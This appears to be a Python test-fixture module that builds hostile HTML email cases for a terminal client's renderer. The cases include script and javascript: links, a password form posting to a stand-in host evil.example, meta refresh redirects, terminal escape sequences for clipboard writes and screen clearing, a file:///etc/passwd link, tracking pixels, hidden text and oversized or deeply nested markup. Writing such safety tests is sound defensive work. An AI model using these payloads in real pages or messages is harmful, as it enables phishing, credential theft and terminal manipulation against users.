"""Cases in HTML that hide text, run code, load pictures, or only want to cost time."""

from typing import Final

from tui_app.simulator.corpus_case import Case, message

_NESTED: Final = 20_000
_PIXEL: Final = "data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw=="


def html_cases() -> list[Case]:
    """HTML that is a trap."""
    return [
        _case(
            "script and style",
            "<style>p{display:none}</style><script>document.write('<p>written</p>')</script>"
            "<!--[if mso]><p>For one program only</p><![endif]--><!-- <p>a comment --><![CDATA[ <p>no data</p> ]]>"
            "<p onclick=\"alert('x')\">Seen</p><noscript>Not seen</noscript>",
        ),
        _case(
            "refresh, base and form",
            '<meta http-equiv="refresh" content="0;url=https://evil.example/r"><base href="https://evil.example/">'
            '<form action="https://evil.example/steal" method="post"><input type="password" name="p">'
            '<button>Sign in</button></form><a href="login">acme.example/login</a>',
            ("https://evil.example/login", "acme.example/login"),
        ),
        _case("20000 nested tags", "<div>" * _NESTED + "The innermost." + "</div>" * _NESTED),
        _case("unclosed tags", "<p><b><i><a href='https://evil.example/x'>open<table><tr><td>" * 500 + "<p <b <!-- "),
        _case(
            "entities for control characters",
            "<p>&#27;[2J&#x1b;]0;owned&#7;&#155;31m&#0;&#x202e;gpj.exe&#xD800;&#99999999;&bogus;&amp;#27;&lt;b&gt;</p>",
        ),
        _case(
            "hidden text",
            '<p style="display:none">none</p><p style="font-size:0">zero</p><p hidden>hidden</p>'
            '<p style="color:#fff;background:#fff">white</p><span style="position:absolute;left:-9999px">away</span>'
            "<p>Your<span style='display:none'>xyz</span> pass<wbr>word&shy; ex&#8203;pires</p>",
        ),
        _case(
            "links that are code or data",
            '<a href="javascript:alert(1)">one</a><a href="JaVa&#10;script:alert(2)">two</a>'
            f'<a href="data:text/html,<script>alert(3)</script>">three</a><img src="{_PIXEL}" alt="pixel">'
            '<a href="https://acme.example@evil.example/">acme.example</a><a href="file:///etc/passwd">four</a>'
            '<a href="https://evil.example/\x1b]52;c;eA==\x07">five</a><img src="https://evil.example/t.gif?u=ana">',
            ("javascript:alert(1)", "one"),
            ("data:text/html,<script>alert(3)</script>", "three"),
            ("https://acme.example@evil.example/", "acme.example"),
            ("https://evil.example/\x1b]52;c;eA==\x07", "five"),
        ),
        _case(
            "huge attributes",
            f'<p title="{"t" * 400_000}" {"data-x " * 20_000}>Small text</p><a href="https://evil.example/{"a" * 200_000}">here</a>',
            ("https://evil.example/" + "a" * 200_000, "here"),
        ),
    ]


def _case(name: str, html: str, *links: tuple[str, str]) -> Case:
    raw = message(name, f"<html><body>{html}\r\n", "text/html; charset=utf-8", encoding="8bit")
    return Case(name, raw, links=links)
